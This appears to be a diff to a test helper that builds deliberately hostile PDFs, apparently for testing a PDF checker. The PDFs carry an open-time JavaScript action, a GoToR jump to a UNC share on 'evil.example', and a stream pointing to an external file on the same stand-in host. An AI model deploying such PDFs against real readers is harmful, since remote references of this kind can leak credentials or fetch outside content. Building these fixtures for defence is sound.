@@ -45,3 +45,21 @@ def pdf(strings: int = 0) -> bytes:
             document.Root["/Waste"] = pikepdf.Object.parse(b"[" + b"(abc)" * strings + b"]")
         document.save(made)
     return made.getvalue()
+
+
+def wrong_pdfs() -> list[bytes]:
+    """Return PDFs that run a script when they are opened, keep a stream in another file, and jump to another file."""
+    script = {"/OpenAction": b"<< /S /JavaScript /JS (app.alert(1)) >>"}
+    jump = {"/OpenAction": rb"<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>"}
+    made = []
+    for root in (script, jump, {}):
+        content = io.BytesIO()
+        with pikepdf.new() as document:
+            document.add_blank_page()
+            for name, value in root.items():
+                document.Root[name] = pikepdf.Object.parse(value)
+            if not root:
+                document.Root["/Waste"] = document.make_stream(b"", F=pikepdf.String("//evil.example/a"))
+            document.save(content)
+        made.append(content.getvalue())
+    return made
